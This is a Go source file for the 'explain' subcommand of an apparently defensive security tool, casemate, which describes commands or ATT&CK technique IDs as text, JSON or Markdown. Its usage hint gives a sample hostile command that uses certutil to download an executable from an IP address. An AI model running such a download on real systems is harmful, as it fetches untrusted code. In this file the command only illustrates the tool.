package main

import (
	"fmt"
	"io"
	"os"
	"strings"

	"github.com/casemate-ai/casemate"
	"github.com/casemate-ai/casemate/internal/security/explain"
	"github.com/casemate-ai/casemate/internal/security/intake"
)

// maxExplain is how much is read to be explained.
const maxExplain = 8 << 20

type explainCmd struct {
	Text     []string `arg:"" optional:"" name:"text" help:"Anything, in single quotes; or a file's name; nothing or - reads standard input."`
	JSON     bool     `help:"Print one JSON document."`
	Markdown bool     `help:"Print Markdown, for a ticket."`
}

// Run explains the text in the form asked for.
func (c *explainCmd) Run(s *streams) error {
	input, err := c.input(s)
	if err != nil {
		return err
	}
	if strings.TrimSpace(input) == "" {
		return &casemate.Error{Code: casemate.CodeUsage, Message: "explain needs something to explain",
			Hint: "try: casemate explain 'certutil -urlcache -f http://203.0.113.5/a.exe a.exe', or casemate explain T1003.001"}
	}
	rules, err := intake.LoadRules(nil, false)
	if err != nil {
		return err
	}
	e, err := explain.Explain(s.ctx, input, explain.Options{Rules: rules.Engine})
	if err != nil {
		return err
	}
	switch {
	case c.JSON:
		return writeJSON(s.stdout, e, true)
	case c.Markdown:
		return explain.WriteMarkdown(s.stdout, e)
	}
	return explain.WriteText(s.stdout, e, terminalWidth(s.stdout), isTerminal(s.stdout))
}

// input returns the text to explain: the arguments, a file that they name, or
// standard input.
func (c *explainCmd) input(s *streams) (string, error) {
	if len(c.Text) == 0 || len(c.Text) == 1 && c.Text[0] == "-" {
		return readText(s.stdin, "standard input")
	}
	if len(c.Text) == 1 {
		if info, err := os.Stat(c.Text[0]); err == nil && info.Mode().IsRegular() {
			f, err := os.Open(c.Text[0])
			if err != nil {
				return "", fmt.Errorf("explain: %w", err)
			}
			defer f.Close()
			return readText(f, c.Text[0])
		}
	}
	return strings.Join(c.Text, " "), nil
}

func readText(r io.Reader, name string) (string, error) {
	b, err := io.ReadAll(io.LimitReader(r, maxExplain+1))
	if err != nil {
		return "", fmt.Errorf("read %s: %w", name, err)
	}
	if len(b) > maxExplain {
		return "", &casemate.Error{Code: casemate.CodeInput, Message: fmt.Sprintf("%s is over %d MiB", name, maxExplain>>20),
			Hint: "explain is for one thing at a time: cut it out of the file, or use casemate triage for logs"}
	}
	return string(b), nil
}
